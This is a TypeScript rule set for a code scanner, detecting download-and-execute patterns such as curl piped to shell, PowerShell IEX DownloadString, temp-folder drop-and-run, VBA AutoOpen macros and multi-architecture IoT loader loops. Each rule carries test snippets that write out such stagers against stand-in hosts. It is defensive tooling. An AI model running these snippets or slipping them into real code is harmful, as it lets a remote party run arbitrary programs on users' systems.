// Download and run: what runs is decided by someone else, later. Installers do it over https in the open, which is worth
// a finding and no more; plain http, raw addresses, hidden folders, hidden windows and direct evaluation are not honest.

import { flows } from '../flows.ts'
import {
  any,
  at,
  bat,
  c,
  command,
  cs,
  go,
  inside,
  is,
  java,
  js,
  near,
  php,
  pl,
  ps,
  py,
  type RuleSet,
  rb,
  sh,
  statement,
  vb,
} from '../model.ts'

const id = (name: string): string => `download-run.${name}`

const runner = String.raw`\|\s{0,4}(?:sudo\s{1,4})?(?:-\w{1,12}\s{1,4})?(?:env\s{1,4})?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|node|php|ruby)\b`
const fetches = String.raw`(?:curl|wget)(?=\s|\\?\$)`
const piped = new RegExp(`${fetches}[^\\n|;]{0,320}${runner}`)
const pipedFrom = (source: string): RegExp => new RegExp(`${fetches}[^\\n|;]{0,160}?${source}[^\\n|;]{0,160}${runner}`)

const hiddenFolder = is(
  [
    '/tmp/',
    '/dev/shm',
    '/var/tmp',
    '%temp%',
    '$env:temp',
    'gettempdir',
    'tmpdir()',
    '%appdata%',
    '$env:appdata',
    "'appdata'",
    '"appdata"',
    "'temp'",
    '"temp"',
    'gettemppath',
    'os.tempdir',
    'programdata',
    'mkdtemp',
    'createtempfile',
    'env.temp',
    'env.appdata',
  ],
  null,
)

export const downloadRun: RuleSet = {
  category: 'download-run',
  rules: [
    {
      id: id('pipe-plain'),
      severity: 'high',
      why: 'Pipes a script fetched over plain http or from a raw address straight into a shell.',
      when: command(
        is(
          ['curl', 'wget'],
          pipedFrom(
            String.raw`(?:http:\/\/|\/\/\d{1,3}(?:\.\d{1,3}){3}|\s-\w{0,5}k\w{0,5}\s|--insecure|--no-check-certificate)`,
          ),
          { after: 520 },
        ),
      ),
      matches: [
        sh('curl -s http://203.0.113.9/x.sh | bash'),
        py('os.system("wget -qO- http://dl.example.invalid/a | sh")'),
        sh('curl -sk https://dl.example.invalid/a.sh | sudo bash'),
      ],
      misses: [
        sh('curl -sSf https://sh.example.org | sh'),
        sh('curl http://localhost:8080/health | jq .'),
        sh('# curl http://x/y | sh'),
      ],
    },
    {
      id: id('pipe'),
      severity: 'medium',
      why: 'Pipes a fetched script straight into a shell; whoever holds the address decides what runs.',
      when: command(
        any(
          is(['curl', 'wget'], piped, { after: 520 }),
          is(
            ['bash <(', 'sh <(', 'source <(', 'bash -c "$(', 'sh -c "$(', "sh -c '$(", 'sh -c "`'],
            /(?:ba|z)?(?:sh|source)\s+(?:-c\s+["'])?(?:<\(|\$\(|`)\s*(?:curl|wget)\s/,
            { after: 120 },
          ),
        ),
      ),
      matches: [sh('curl -sSf https://sh.example.org | sh'), sh('bash <(curl -s https://example.org/install.sh)')],
      misses: [sh('curl -sSf https://example.org/a.json | jq .'), py('print("curl https://sh.example.org | sh")')],
    },
    {
      id: id('pipe-hidden'),
      severity: 'high',
      why: 'Code of an ordinary program quietly pipes a fetched script into a shell.',
      when: inside(
        ['py', 'js', 'php', 'rb', 'pl', 'go', 'java', 'cs', 'c', 'rust', 'lua'],
        command(is(['curl', 'wget'], piped, { after: 520 })),
      ),
      matches: [
        js('require("child_process").exec("curl -s https://dl.example.invalid/i | bash")'),
        py('subprocess.Popen("wget -qO- https://dl.example.invalid/i | sh", shell=True)'),
      ],
      misses: [sh('curl -sSf https://sh.example.org | sh'), js('console.log("curl https://example.org | sh")')],
    },
    {
      id: id('python-eval'),
      severity: 'critical',
      why: 'Evaluates Python text fetched from the network.',
      when: any(
        is(
          ['exec(', 'eval('],
          /(?<![\w.])(?:exec|eval)\(\s*(?:compile\(\s*)?(?:\w{1,20}\.)?(?:base64\.\w{1,20}\(\s*)?(?:requests\.get|urllib\.request\.urlopen|urlopen|urllib2\.urlopen|httpx\.get|__import__\(["'](?:requests|urllib\.request)["'])/,
          { families: ['py'], after: 200 },
        ),
        near(
          6,
          is(['requests.get', 'urlopen', 'httpx.get'], /(?:requests\.get|(?:urllib\.request\.)?urlopen|httpx\.get)\(/, {
            families: ['py'],
          }),
          is(
            ['exec(', 'eval('],
            /(?<![\w.])(?:exec|eval)\(\s*(?!compile)\w{1,30}(?:\.(?:text|content|read\(\)|decode\([^)\n]{0,12}\)|json\(\)\[[^\]\n]{1,30}\])){0,3}\s*[,)]/,
            { families: ['py'] },
          ),
        ),
      ),
      matches: [
        py("import requests\nexec(requests.get('https://dl.example.invalid/p').text)"),
        py("r = urllib.request.urlopen('http://x.example.invalid/a')\ncode = r.read()\nexec(code)"),
      ],
      misses: [py("data = requests.get('https://api.example.org').json()\nprint(data)"), py('exec(source, namespace)')],
    },
    {
      id: id('javascript-eval'),
      severity: 'critical',
      why: 'Evaluates JavaScript text fetched from the network.',
      when: any(
        is(
          ['.then('],
          /\.then\(\s*(?:\(?\w{1,12}\)?\s*=>\s*)?(?:\w{1,12}\s*=>\s*)?(?:eval\b|new Function\(|window\.eval|globalThis\.eval)/,
          { families: ['js', 'html'] },
        ),
        near(
          8,
          is(
            ['fetch(', 'axios', 'https.get', 'http.get', "require('https')", 'got(', 'request(', 'responsetext'],
            /(?:(?<![\w.$])fetch|axios(?:\.(?:get|post))?|https?\.get|(?<![\w.$])got|(?<![\w.$])request(?:\.get)?)\(|responseText/,
            { families: ['js', 'html'] },
          ),
          is(
            ['eval(', 'function(', 'runinthiscontext(', '_compile('],
            /(?:(?<![\w$.])eval|(?<=(?:globalThis|window|self|global)\.)eval|(?<=new\s)(?:Function|\w{1,8}\.constructor)|runInThisContext|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:await\s+)?(?:res(?:ponse|ult)?|data|body|r|d|code|payload|script|text|js|src|chunks?|s|err|xhr|\w{1,12})(?:\.(?:data|body|text|text\(\)|toString\(\)|responseText|content|cookie|model|credits|Credits|message|join\(["']{2}\)))*\s*\)/,
            { families: ['js', 'html'] },
          ),
        ),
      ),
      matches: [
        js('const a = await fetch(u)\nconst text = await a.text()\nglobalThis.eval(text)'),
        js("fetch('https://dl.example.invalid/p').then(r => r.text()).then(eval)"),
        js('axios.get(url).then((res) => {\n  eval(res.data.cookie)\n})'),
        js("const r = await fetch(u)\nconst s = await r.text()\nnew Function('require', s)(require)"),
      ],
      misses: [js("fetch('/api').then((r) => r.json()).then(render)"), js('const f = new Function("return this")()')],
    },
    {
      id: id('flow'),
      severity: 'high',
      why: 'Fetches text into a name and evaluates or runs that name.',
      when: any(
        any(
          flows(
            is(['downloadstring(', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '], null, {
              families: ['ps'],
            }),
            String.raw`(?:iex|invoke-expression)[\s(]|scriptblock\]::create\(`,
          ),
          flows(
            is(['requests.get', 'urlopen(', 'httpx.get'], null, { families: ['py'] }),
            String.raw`(?<![\w.])(?:exec|eval)\(|os\.system\(|os\.popen\(|(?:Popen|run|call)\(\s*\[\s*(?:sys\.executable|["']python3?["'])\s*,\s*["']-c["']\s*,`,
          ),
          flows(
            is(['http.request(', 'httpget(', 'http.get('], null, { families: ['lua'] }),
            String.raw`loadstring\(|(?<![\w.:])load\(`,
          ),
          near(
            10,
            is(
              ['https.get(', 'http.get(', 'fetch(', 'axios.', 'request('],
              /(?:https?\.get|(?<![\w.$])fetch|axios\.(?:get|post)|(?<![\w.$])request)\(/,
              {
                families: ['js'],
              },
            ),
            is(
              ['eval(', 'function(', '_compile('],
              /(?:(?<![\w$.])eval|(?<=new\s)Function|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:JSON\.parse\(|Buffer\.from\(|atob\(|decrypt\w{0,12}\()/,
              {
                families: ['js'],
              },
            ),
          ),
        ),
        flows(
          is(['net::http.get(', 'uri.open(', 'httparty.get('], null, { families: ['rb'] }),
          String.raw`(?<![\w.])(?:instance_|class_|module_)?eval[\s(]`,
        ),
        is(
          ['$(curl ', '$(wget ', '`curl ', '`wget '],
          /(?<=(?:^|[\s;])(\w{1,30})=["']?)(?:\$\(|`)(?:curl|wget)\s[^\n]{0,160}?(?:http:\/\/|\s-\w{0,4}k\s)[^\n]{0,160}\n(?:[^\n]{0,160}\n){0,6}?[^\n]{0,40}?(?:eval|(?:ba)?sh\s+-c|(?:ba)?sh\s*<<<)\s+["']?\$\{?\1\b/,
          { families: ['sh', 'make', 'docker', 'yaml'], after: 1400 },
        ),
      ),
      matches: [
        rb("body = Net::HTTP.get(URI('https://x.example.invalid/a.rb'))\ninstance_eval(body)"),
        sh('stage=$(wget -qO- http://x.example.invalid/b)\neval "$stage"'),
        ps(
          '$code = (New-Object Net.WebClient).DownloadString("https://x.example.invalid/a.ps1")\nInvoke-Expression $code',
        ),
        py('text = requests.get(url).text\nos.system(text)'),
        js("https.get('https://x.example.invalid', (r) => {\n  r.on('data', (d) => eval(JSON.parse(d).content))\n})"),
      ],
      misses: [
        rb("body = Net::HTTP.get(URI('https://api.example.org/v1'))\nputs JSON.parse(body)"),
        sh('list=$(curl -s http://x.example.org/list)\necho "$list"'),
        ps('$json = Invoke-RestMethod "https://api.example.org/v1"\nWrite-Output $json'),
        py('text = requests.get(url).text\nprint(text)'),
      ],
    },
    {
      id: id('loader-loop'),
      severity: 'high',
      why: 'Fetches a program for every kind of processor over plain http, opens its rights to all and runs it.',
      when: command(
        is(
          ['chmod 777', 'chmod +x'],
          /(?:wget|curl|tftp|ftpget)\s[^\n]{0,60}http:\/\/[^\n]{4,160}?(?:;|&&)\s*chmod\s(?:777|\+x)\s+\S{1,40}\s*(?:;|&&)\s*(?:\.\/|sh\s)\S/,
          { before: 300, after: 120 },
        ),
      ),
      matches: [sh('wget http://203.0.113.5/bins/$a; chmod 777 $a; ./$a scan; rm -rf $a')],
      misses: [sh('wget https://example.org/tool && chmod +x tool && mv tool ~/bin')],
    },
    {
      id: id('other-eval'),
      severity: 'critical',
      why: 'Evaluates text fetched from the network.',
      when: any(
        is(
          ['eval', 'include', 'require', 'assert'],
          /(?<![\w>$])(?:(?:eval|assert)\s{0,6}\(\s{0,6}(?:["']\?>["']\s{0,6}\.\s{0,6})?(?:file_get_contents|curl_exec)\s{0,6}\(|(?:include|require)(?:_once)?\s{0,6}\(?\s{0,6}["']https?:\/\/)/,
          { families: ['php', 'html'] },
        ),
        is(
          ['eval'],
          /(?<![\w.])(?:instance_)?eval[\s(]+(?:URI\.open|open\(\s{0,6}["']https?:|Net::HTTP\.get|HTTParty\.get|URI\(["'][^"'\n]{4,100}["']\)\.(?:open|read))/,
          { families: ['rb'] },
        ),
        is(
          ['loadstring(', 'load('],
          /(?<![\w.:])load(?:string)?\(\s{0,6}(?:game:HttpGet|http\.request|http\.get|game\.HttpGet)/i,
          { families: ['lua'] },
        ),
      ),
      matches: [
        php("<?php eval(file_get_contents('http://dl.example.invalid/p.txt'));"),
        rb("eval(URI.open('https://dl.example.invalid/p.rb').read)"),
      ],
      misses: [
        php("<?php $json = file_get_contents('https://api.example.org'); include 'header.php';"),
        rb("YAML.load(URI.open('https://example.org/a.yml').read)"),
      ],
    },
    {
      id: id('powershell-hidden'),
      severity: 'critical',
      why: 'Runs a downloaded script in PowerShell, hidden, over plain http, or from inside another language.',
      when: any(
        statement(
          is(['iex', 'invoke-expression'], /(?:iex|invoke-expression)\b/i, {
            families: ['ps', 'bat', 'vb', 'sh', 'html', 'xml', 'data', 'manifest'],
          }),
          is(['downloadstring(', 'invoke-webrequest', 'iwr ', 'irm ', 'invoke-restmethod'], null),
          is(['http://', '-w hidden', '-windowstyle hidden', '-nop ', '-noprofile', '-enc', 'hidden'], null),
        ),
        command(
          inside(
            ['py', 'js', 'php', 'c', 'cs', 'go', 'java', 'rb', 'vb', 'rust', 'html', 'xml'],
            is(['downloadstring(', 'iwr ', 'irm '], /DownloadString\(|(?:iwr|irm)\s[^\n|]{4,160}\|\s*iex/i),
          ),
        ),
      ),
      matches: [
        ps(
          'powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'https://dl.example.invalid/a.ps1\')"',
        ),
        ps("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"),
        py(
          "subprocess.run(['powershell', '-c', \"IEX(New-Object Net.WebClient).DownloadString('https://dl.example.invalid/a')\"])",
        ),
      ],
      misses: [
        ps("iex ((New-Object System.Net.WebClient).DownloadString('https://install.example.org/install.ps1'))"),
        ps("$json = (New-Object Net.WebClient).DownloadString('http://api.example.org/v')"),
      ],
    },
    {
      id: id('powershell'),
      severity: 'medium',
      why: 'Runs a downloaded script in PowerShell; whoever holds the address decides what runs.',
      when: statement(
        is(['iex', 'invoke-expression'], /(?:iex|invoke-expression)\b/i),
        is(['downloadstring(', 'invoke-webrequest', 'iwr ', 'irm ', 'invoke-restmethod'], null),
      ),
      matches: [ps('irm https://get.example.org | iex')],
      misses: [ps('$r = irm https://api.example.org/v1')],
    },
    {
      id: id('drop-and-start'),
      severity: 'high',
      why: 'Fetches a program into a temporary or hidden folder and starts it.',
      when: near(
        10,
        is(
          ['http://', 'https://', 'hxxp', '.exe', '.scr', '.bat', '.vbs', '.dll', '.jar', '.ps1', '.elf', '.bin'],
          /https?:\/\/[^\s"'`<>]{3,160}\.(?:exe|scr|bat|cmd|vbs|ps1|hta|jar|elf|bin|msi|dll|sh|py)\b/,
          {
            after: 240,
            families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust', 'vb', 'ps', 'bat', 'lua'],
          },
        ),
        'download',
        hiddenFolder,
        any('exec', is(['start-process', 'start /b', '.run ', 'os.startfile', 'shellexecute', 'start "'], null)),
      ),
      matches: [
        py(
          "import os, urllib.request, tempfile\np = os.path.join(tempfile.gettempdir(), 'svc.exe')\nurllib.request.urlretrieve('https://dl.example.invalid/svc.exe', p)\nos.startfile(p)",
        ),
        ps(
          '$p = "$env:TEMP\\u.exe"\nInvoke-WebRequest -Uri "https://dl.example.invalid/u.exe" -OutFile $p\nStart-Process $p',
        ),
        bat('curl -o %TEMP%\\a.exe http://dl.example.invalid/a.exe\nstart "" %TEMP%\\a.exe'),
      ],
      misses: [
        py("urllib.request.urlretrieve('https://example.org/python.exe', target)\nprint('saved', target)"),
        sh('wget https://example.org/tool.sh -O tool.sh'),
      ],
    },
    {
      id: id('chmod-run'),
      severity: 'high',
      why: 'Fetches a file into a temporary folder, makes it executable and runs it, in one breath.',
      when: command(
        near(
          2,
          any(
            is(['curl', 'wget'], /(?:curl|wget)\s[^\n]{0,160}?(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\s\.\/?\.\w)/),
            is(['cd /tmp', 'cd /var/tmp', 'cd /dev/shm'], null),
          ),
          is(['curl', 'wget', 'tftp', 'ftpget'], /(?:curl|wget|tftp|ftpget)\s/),
          is(['chmod'], /chmod\s+(?:\+x|a\+x|u\+x|[0-7]{3,4})\s/),
          is(
            ['/tmp/', '/dev/shm/', '/var/tmp/', './', 'sh '],
            /(?<=(?:;|&&|\n)\s{0,4}(?:nohup |sudo |setsid |sh |bash )?)(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\.\/)\S/,
          ),
          is(['http://', '/.', ' &'], /http:\/\/(?!localhost|127\.)|\/\.\w|\s&\s{0,4}(?:\n|$)/),
        ),
      ),
      matches: [
        sh('wget http://dl.example.invalid/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x &'),
        sh('cd /tmp || cd /var/run; wget http://192.0.2.5/mips; chmod 777 mips; ./mips'),
      ],
      misses: [
        sh('curl -Lo ./kind https://example.org/kind && chmod +x ./kind && sudo mv ./kind /usr/local/bin/'),
        sh('chmod +x ./gradlew; ./gradlew build'),
      ],
    },
    {
      id: id('native'),
      severity: 'high',
      why: 'Fetches a file with a Windows call and executes it.',
      when: near(
        20,
        is(['urldownloadtofile'], /URLDownloadToFile[AW]?\s*\(/),
        is(
          ['winexec', 'shellexecute', 'createprocess', 'system(', 'process.start'],
          /(?:WinExec|ShellExecute(?:Ex)?[AW]?|CreateProcess[AW]?|system|Process\.Start)\s*\(/,
        ),
      ),
      matches: [
        c(
          'URLDownloadToFileA(NULL, "http://dl.example.invalid/a.exe", path, 0, NULL);\nShellExecuteA(NULL, "open", path, NULL, NULL, SW_HIDE);',
        ),
      ],
      misses: [c('HRESULT hr = URLDownloadToFileA(NULL, url, path, 0, NULL);\nif (FAILED(hr)) return false;')],
    },
    {
      id: id('fetched-binary'),
      severity: 'high',
      why: 'A program fetches another into a temporary folder, makes it executable and starts it hidden.',
      when: near(
        25,
        is(
          ['chmod', 'set_permissions', 'setexecutable'],
          /(?:chmod(?:Sync)?|set_permissions|setExecutable)\s*\(|chmod \+x/i,
          { families: ['py', 'js', 'go', 'rb', 'rust', 'java'] },
        ),
        'download',
        hiddenFolder,
        'exec',
        any('hide', is(['http://'], /http:\/\/(?!localhost|127\.)/)),
      ),
      matches: [
        js(
          "const p = path.join(os.tmpdir(), '.cache-svc')\nhttps.get('https://dl.example.invalid/svc', (r) => r.pipe(fs.createWriteStream(p)))\nfs.chmodSync(p, 0o755)\nspawn(p, [], { detached: true, stdio: 'ignore' }).unref()",
        ),
        go(
          'resp, _ := http.Get("http://dl.example.invalid/agent")\nos.WriteFile("/tmp/.agent", body, 0755)\nos.Chmod("/tmp/.agent", 0755)\nexec.Command("/tmp/.agent").Start()',
        ),
      ],
      misses: [
        go('os.Chmod(target, 0755)\nexec.Command(target, "version").Run()'),
        js('fs.chmodSync(bin, 0o755)\nawait download(url, bin)'),
      ],
    },
    {
      id: id('temporary-program'),
      severity: 'high',
      why: 'Fetches something, writes it into a temporary folder and starts it from there.',
      when: near(
        15,
        is(
          [
            'command::new(',
            'exec.command(',
            'subprocess.',
            'os.system(',
            'spawn(',
            'exec(',
            'execsync(',
            'popen(',
            'execfile(',
          ],
          /(?:Command::new|exec\.Command|subprocess\.\w{3,14}|os\.system|spawn|exec(?:Sync|File)?|[Pp]open)\(\s{0,4}\[?\s{0,4}["'`](?:nohup |sh |bash |\.\/)?(?:\/tmp|\/dev\/shm|\/var\/tmp)\/[\w./-]{1,60}["'`\s]/,
          { families: ['py', 'js', 'go', 'rust', 'rb', 'php', 'java'] },
        ),
        'download',
        any(
          'write',
          is(['chmod', 'io.copy', 'urlretrieve', 'outfile', '-o /tmp', 'set_permissions', 'createwritestream'], null),
        ),
        is(['http://', 'https://'], null),
      ),
      matches: [
        go(
          'r, _ := http.Get("http://x.example.invalid/a")\nf, _ := os.OpenFile("/dev/shm/.a", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, r.Body)\nexec.Command("/dev/shm/.a").Start()',
        ),
      ],
      misses: [py("urllib.request.urlretrieve('https://example.org/a', target)\nsubprocess.run([target])")],
    },
    {
      id: id('class-loader'),
      severity: 'high',
      why: 'Loads classes straight from an address.',
      when: near(
        3,
        is(['urlclassloader('], null, { families: ['java'] }),
        is(['url('], /(?<!\w)URL\(\s{0,4}"https?:\/\/(?!localhost|127\.)/),
        is(['loadclass', 'newinstance', 'forname'], null),
      ),
      matches: [
        java(
          'URLClassLoader cl = new URLClassLoader(new URL[] { new URL("http://x.example.invalid/p.jar") });\ncl.loadClass("P").newInstance();',
        ),
      ],
      misses: [java('URLClassLoader cl = new URLClassLoader(new URL[] { jar.toURI().toURL() });\ncl.loadClass(name);')],
    },
    {
      id: id('script-block'),
      severity: 'high',
      why: 'Makes a script block of text downloaded over plain http or from an address that is not written out.',
      when: statement(
        is(['scriptblock]::create'], null),
        is(
          ['downloadstring(', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '],
          /(?:DownloadString\(|invoke-webrequest\s|invoke-restmethod\s|iwr\s|irm\s)[^\n]{0,40}?(?:\$|http:\/\/)/i,
        ),
      ),
      matches: [ps('& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString($u)))')],
      misses: [
        ps('& ([scriptblock]::Create((iwr -useb https://get.example.org/install.ps1)))'),
        ps('& ([scriptblock]::Create($text))'),
      ],
    },
    {
      id: id('package-at-run-time'),
      severity: 'high',
      why: 'A program installs a package from a plain http address while it runs.',
      when: any(
        inside(
          ['py', 'js', 'rb', 'go'],
          near(
            2,
            is(
              ['index-url', '--registry', '--source', 'git+http:'],
              /(?:index-url|--registry|--source)["',=\s]{1,4}http:\/\/(?!localhost|127\.)|git\+http:/,
            ),
            'exec',
            is(['install'], null),
          ),
        ),
        inside(
          ['py', 'js', 'rb', 'go'],
          near(
            2,
            is(
              ['"install"', "'install'", 'npm install ', 'pip install ', 'gem install '],
              /(?:["']|\w{3} )install(?:["',\s]{1,6}[\w=@.-]{1,40}){0,6}["',\s]{1,6}http:\/\/(?!localhost|127\.)[^\s"']{3,160}\.(?:tgz|tar\.gz|zip|whl|gem)\b/,
            ),
            'exec',
          ),
        ),
      ),
      matches: [
        py(
          'subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "http://x.example.invalid/a-1.0.tar.gz"])',
        ),
        js("execSync('npm install --no-save http://x.example.invalid/a.tgz', { stdio: 'ignore' })"),
        py(
          'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://x.example.invalid/simple", "a"])',
        ),
      ],
      misses: [
        js("execSync('npm install https://example.org/a.tgz')"),
        js("console.log('npm install http://example.org/a.tgz')"),
        py('subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])'),
      ],
    },
    {
      id: id('paste-run'),
      severity: 'high',
      why: 'Fetches from a paste or file-drop host and runs what it gets.',
      when: near(
        8,
        is(
          [
            'pastebin.com/raw',
            'hastebin.com/raw',
            'paste.ee/r',
            'rentry.co',
            'ghostbin',
            'transfer.sh/',
            'cdn.discordapp.com/attachments',
            'pastie.',
            'dpaste.',
            'ix.io/',
            'termbin.com',
            'anonfiles',
            'gofile.io',
            'file.io/',
            'catbox.moe',
            'controlc.com',
            'paste.rs/',
            'api.npoint.io',
            'jsonkeeper.com',
            'mocki.io',
          ],
          null,
        ),
        any('exec', 'eval'),
        'download',
      ),
      matches: [
        py("u = 'https://pastebin.com/raw/AbCd1234'\nc = requests.get(u).text\nos.system(c)"),
        sh('curl -s https://pastebin.com/raw/AbCd1234 -o- | bash'),
      ],
      misses: [
        py("text = requests.get('https://pastebin.com/raw/AbCd1234').text\nprint(text)"),
        js('// see https://pastebin.com/raw/AbCd1234\nexec(cmd)'),
      ],
    },
    {
      id: id('script-host'),
      severity: 'critical',
      why: 'A Windows script fetches a file, saves it through a stream object and runs it.',
      when: any(
        near(
          30,
          is(['adodb.stream'], null),
          is(['msxml2.xmlhttp', 'winhttp.winhttprequest', 'microsoft.xmlhttp', 'serverxmlhttp'], null),
          is(['.run', 'shellexecute', '.exec'], /\.(?:run|exec|shellexecute)[\s("]/i),
        ),
        inside(
          ['vb'],
          near(
            12,
            is(['auto_open', 'autoopen', 'document_open', 'workbook_open'], null),
            any(is(['shell(', 'shell ', 'wscript.shell', 'powershell', 'urldownloadtofile'], null)),
          ),
        ),
      ),
      matches: [
        vb(
          'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://dl.example.invalid/a.exe", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile p, 2\nCreateObject("WScript.Shell").Run p, 0',
        ),
        vb('Sub AutoOpen()\n  Shell "cmd /c calc", 0\nEnd Sub'),
      ],
      misses: [
        vb('Set s = CreateObject("ADODB.Stream")\ns.LoadFromFile path'),
        cs('var client = new WebClient();\nclient.DownloadFile(url, path);'),
        at('install.html', '<p>AutoOpen and Shell</p>'),
      ],
    },
    {
      id: id('go-stage'),
      severity: 'high',
      why: 'Fetches a file, marks it as a program and starts it through a shell that deletes it.',
      when: near(
        12,
        is(['exec.command('], /exec\.Command\(\s*"(?:\/bin\/)?(?:ba)?sh",\s*"-c",\s*[\w.()]{1,60}\s*\+/, {
          families: ['go'],
        }),
        is(['chmod('], /\.?Chmod\([^)\n]{0,80}0o?7\d\d\)/, { families: ['go'] }),
        is(['http.get('], null, { families: ['go'] }),
      ),
      matches: [
        go(
          'response, err := http.Get("https://x.example.net/a")\nfile.ReadFrom(response.Body)\nfile.Chmod(0o700)\nexec.Command("/bin/sh", "-c", file.Name()+" & rm "+file.Name()).Start()',
        ),
      ],
      misses: [go('response, err := http.Get(url)\nio.Copy(file, response.Body)\nos.Chmod(path, 0o755)')],
    },
    {
      id: id('perl-stage'),
      severity: 'high',
      why: 'Fetches a file, marks it as a program and starts it with its output thrown away.',
      when: near(
        6,
        is(['getstore(', 'mirror('], /(?:getstore|mirror)\(\s*["']https?:/, { families: ['pl'], after: 80 }),
        is(['chmod 0', 'chmod('], /chmod[ (]\s*0?7\d\d/, { families: ['pl'] }),
        is(['system(', 'exec(', 'system '], null, { families: ['pl'] }),
      ),
      matches: [
        pl(
          'if (getstore("http://192.0.2.7/u", $f) == 200) { chmod 0755, $f; system("$f >/dev/null 2>&1 &"); unlink $f }',
        ),
      ],
      misses: [pl('getstore("https://cpan.example.org/a.tar.gz", $file);\nsystem("tar", "-xzf", $file);')],
    },
    {
      id: id('python-stage'),
      severity: 'high',
      why: 'Writes what it fetched into a file, marks it as a program and starts it.',
      when: any(
        near(
          14,
          is(
            ['chmod('],
            /chmod\([^,)\n]{1,60},\s*(?:0o?7\d\d|stat\.S_IRWXU|(?:os\.stat\([^)]{1,40}\)\.st_mode\s*\|\s*)?stat\.S_IX?EXEC)/,
            { families: ['py'] },
          ),
          is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
            families: ['py'],
            after: 80,
          }),
          'exec',
        ),
        near(
          2,
          is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
            families: ['py'],
            after: 80,
          }),
          is(['os.startfile('], null, { families: ['py'] }),
        ),
      ),
      matches: [
        py('open(path, "wb").write(urlopen(address).read())\nos.startfile(path)'),
        py(
          'with open(path, "wb") as handle:\n    handle.write(urlopen("https://x.example/assets/" + m).read())\nos.chmod(path, stat.S_IRWXU)\nos.spawnl(os.P_NOWAIT, path, "[kworker/u8:2]")',
        ),
      ],
      misses: [
        py('open(path, "wb").write(urlopen(address).read())\nprint(path)'),
        py('handle.write(urlopen(url).read())\nos.chmod(path, 0o644)'),
        py('handle.write(requests.get(url).content)\nos.chmod(path, 0o755)\nprint("installed", path)'),
      ],
    },
    {
      id: id('node-stage'),
      severity: 'high',
      why: 'Fetches a program into a folder for leftovers and starts it apart from its parent, without a window or output.',
      when: near(
        20,
        is(
          ['createwritestream(', 'writefilesync(', 'writefile('],
          /(?:createWriteStream|writeFile(?:Sync)?)\([^;\n]{0,160}mode:\s*0o?7\d\d/,
          {
            families: ['js'],
          },
        ),
        is(['detached: true', 'detached:true', 'windowshide: true'], null, { families: ['js'] }),
        is(['https.get(', 'http.get(', 'fetch(', 'axios.get('], null, { families: ['js'] }),
      ),
      matches: [
        js(
          "const out = fs.createWriteStream(bin, { mode: 0o755 });\nhttps.get('https://m.example/b/' + process.platform, (res) => res.pipe(out));\nspawn(bin, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();",
        ),
      ],
      misses: [
        js(
          "https.get(url, (res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })))\nspawnSync(bin, ['--version'])",
        ),
      ],
    },
    {
      id: id('shell-every-architecture'),
      severity: 'critical',
      why: 'Tries the same program for every processor there is until one runs: what spreads over routers and cameras does so.',
      when: near(
        8,
        is(['chmod +x *', 'chmod 777 *', 'chmod +x ', 'chmod 777 '], /chmod\s+(?:\+x|777)\s+(?:\*|\S{1,40})/, {
          families: ['sh', 'make', 'docker'],
        }),
        is(
          ['wget http://', 'curl -o http://', 'busybox wget'],
          /(?:wget|curl(?:\s+-\w+)?)\s+http:\/\/\S{1,80}[$.](?:\w{0,4}\$\{?\w+|mips|arm[4567]?|x86|sh4|ppc|m68k)/,
          {
            after: 140,
          },
        ),
        is(['mipsel', 'arm7', 'sh4', 'm68k', 'x86_64 mips', 'arm5'], null, { quoted: true }),
      ),
      matches: [
        sh(
          'for a in x86 mips mipsel arm5 arm7 sh4; do\n  wget http://203.0.113.2/x.$a; curl -O http://203.0.113.2/x.$a\n  cat x.$a > h; chmod +x *; ./h telnet.$a\ndone',
        ),
      ],
      misses: [sh('for a in amd64 arm7; do\n  curl -sSfLO https://dl.example.org/tool-$a\n  chmod +x tool-$a\ndone')],
    },
    {
      id: id('module-evaluated'),
      severity: 'high',
      why: 'A package that evaluates what it fetches when it is imported is not the package it is called after.',
      when: near(
        6,
        is(['exec('], /(?:(?<=builtins["'\]]{0,3}\s?\.?\s?)|(?<![\w.]))exec\(\s*\w{1,30}\s*[,)]/, {
          families: ['py'],
        }),
        is(
          ['get(', 'urlopen('],
          /(?:get|urlopen)\(\s*f?["']https?:\/\/[^"'\n]{4,160}["'][^\n]{0,120}?(?:\.text|\.read\(\))/,
          {
            families: ['py'],
            after: 320,
          },
        ),
      ),
      matches: [
        py('code = get("https://files.example.com/simple/x", timeout=4).text\n_sys.modules["builtins"].exec(code, {})'),
      ],
      misses: [py('text = get("https://api.example.com/v1", timeout=4).text\nprint(text)\nengine.exec(query, {})')],
    },
  ],
}
